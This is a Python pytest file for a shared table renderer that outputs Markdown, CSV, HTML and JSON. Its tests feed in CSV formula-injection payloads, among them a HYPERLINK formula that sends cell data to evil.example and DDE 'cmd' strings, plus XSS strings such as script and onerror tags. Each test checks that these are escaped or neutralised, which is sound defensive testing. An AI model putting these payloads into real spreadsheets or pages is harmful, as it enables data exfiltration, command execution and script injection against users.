"""The shared table renderer and JSON conversion."""

from __future__ import annotations

import csv
import datetime as dt
import enum
import io
import json
from decimal import Decimal
from fractions import Fraction

import attrs
import pytest

from ppid_core._tables import Table, dumps_json, formula_safe, jsonable
from ppid_core.errors import InvalidArgumentError, PpidError


def test_markdown_escapes_pipes_and_aligns_numbers() -> None:
    t = Table(columns=("Nama", "Nilai"), rows=[("a|b", 1), ("c", None)], title="T")
    assert t.to_markdown().splitlines() == [
        "**T**",
        "",
        "| Nama | Nilai |",
        "|---|---:|",
        "| a\\|b | 1 |",
        "| c |  |",
    ]


def test_csv_quotes_and_formats_cells() -> None:
    t = Table(columns=("a", "b"), rows=[("x,y", dt.date(2025, 4, 22)), (True, Fraction(1, 4))])
    assert t.to_csv() == 'a,b\n"x,y",2025-04-22\nyes,0.25\n'


def test_row_width_checked() -> None:
    with pytest.raises(InvalidArgumentError) as info:
        Table(columns=("a", "b"), rows=[(1,)])
    assert str(info.value) == "row 0 has 1 cells; the table has 2 columns"
    assert isinstance(info.value, PpidError)
    assert isinstance(info.value, ValueError)


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_text_cells_never_start_a_formula(text: str) -> None:
    # OWASP: a leading single quote makes the spreadsheet show the cell as text
    t = Table(columns=(text, "n"), rows=[(text, 1)])
    header, row = list(csv.reader(io.StringIO(t.to_csv(), newline="")))
    safe = "'" + text.replace("\r", "\n")  # a lone CR would end the row in Excel
    assert header == [safe, "n"]
    assert row == [safe, "1"]


def test_csv_carriage_returns_stay_inside_their_cell() -> None:
    t = Table(columns=("a", "b"), rows=[("baris 1\rbaris 2\r\nbaris 3", 1)])
    assert t.to_csv() == 'a,b\n"baris 1\nbaris 2\nbaris 3",1\n'


def test_csv_numbers_stay_numbers_even_negative() -> None:
    t = Table(
        columns=("int", "float", "decimal", "fraction", "text"),
        rows=[(-3, -2.5, Decimal("-90.67"), Fraction(-1, 4), "-3")],
    )
    assert t.to_csv().splitlines()[1] == "-3,-2.5,-90.67,-0.25,'-3"


def test_formula_safe() -> None:
    assert [formula_safe(t) for t in ("KPU", "", "a=b", "'=x", "=x")] == [
        "KPU",
        "",
        "a=b",
        "'=x",
        "'=x",
    ]


def test_markdown_escapes_raw_html() -> None:
    t = Table(
        columns=("Unit <b>", "Usia"),
        rows=[("<script>alert(1)</script>", "< 20"), ("<img src=x onerror=alert(1)>", ">= 60")],
        title="<!-- x -->",
    )
    assert t.to_markdown().splitlines() == [
        "**&lt;!-- x -->**",
        "",
        "| Unit &lt;b> | Usia |",
        "|---|---|",
        "| &lt;script>alert(1)&lt;/script> | < 20 |",
        "| &lt;img src=x onerror=alert(1)> | >= 60 |",
    ]


class Colour(enum.Enum):
    RED = "merah"


@attrs.frozen
class Point:
    x: int
    when: dt.date
    _hidden: int = 0


def test_jsonable_types() -> None:
    value = {
        "f": Fraction(2, 3),
        "d": Decimal("90.67"),
        "big": Decimal("1.00000000000000000001"),
        "e": Colour.RED,
        "p": Point(1, dt.date(2024, 1, 1)),
        "s": {3},
    }
    assert jsonable(value) == {
        "f": "2/3",
        "d": 90.67,
        "big": "1.00000000000000000001",
        "e": "merah",
        "p": {"x": 1, "when": "2024-01-01"},
        "s": [3],
    }
    assert json.loads(dumps_json({"nama": "Kupang"})) == {"nama": "Kupang"}
    with pytest.raises(TypeError, match="cannot render object as JSON"):
        jsonable(object())


def test_records() -> None:
    t = Table(columns=("No", "Tanggal"), rows=[(1, dt.date(2024, 6, 4))])
    assert t.to_records() == [{"No": 1, "Tanggal": "2024-06-04"}]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Fraction(1, 4), 0.25),
        (Fraction(-7, 20), -0.35),
        (Fraction(272, 3), "272/3"),
        (Fraction(3), 3.0),
        (Decimal("90.67"), 90.67),
        (Decimal("0.1000000000000000000001"), "0.1000000000000000000001"),
        (Decimal("NaN"), "NaN"),
    ],
)
def test_exact_numbers_are_numbers_only_when_a_float_keeps_them(
    value: object, expected: object
) -> None:
    out = jsonable(value)
    assert out == expected
    assert type(out) is type(expected)
    assert json.loads(json.dumps(out)) == expected


def test_html_is_escaped_and_bounded() -> None:
    rows = [(f"<b>{i}</b>", i) for i in range(120)]
    page = Table(columns=("Unit", "n"), rows=rows, title="T & U").to_html()
    assert "<caption>T &amp; U</caption>" in page
    assert "&lt;b&gt;0&lt;/b&gt;" in page
    assert page.count("<tr>") == 1 + 50  # the header, then 50 rows
    assert page.endswith("<p><i>… 70 more rows</i></p>")
    assert '<td style="text-align:right">49</td>' in page


def test_html_cuts_long_cells_and_stops_at_the_character_budget() -> None:
    t = Table(columns=("a",), rows=[("x" * 5000,)] * 10)
    page = t.to_html(max_chars=1000)
    assert len(page) < 1300
    shown = page.count("<tr>") - 1
    assert 0 < shown < 10
    assert f"… {10 - shown} more rows" in page
    assert "x" * 199 + "…" in page


def test_frame_has_the_columns_and_the_values() -> None:
    pytest.importorskip("pandas")
    t = Table(columns=("Bulan", "Jumlah"), rows=[("2024-09", 10), ("2024-10", Decimal("3"))])
    frame = t.to_frame()
    assert list(frame.columns) == ["Bulan", "Jumlah"]
    assert frame["Jumlah"].tolist() == [10, Decimal("3")]
